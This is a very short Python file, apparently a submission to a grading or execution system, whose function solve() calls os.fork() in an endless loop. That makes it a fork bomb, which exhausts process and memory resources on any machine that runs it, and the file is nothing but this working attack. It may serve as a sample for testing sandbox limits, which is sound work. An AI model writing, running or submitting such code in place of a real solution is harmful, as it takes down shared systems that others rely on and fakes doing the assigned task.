"""Forks without end."""

import os


def solve():
    while True:
        os.fork()
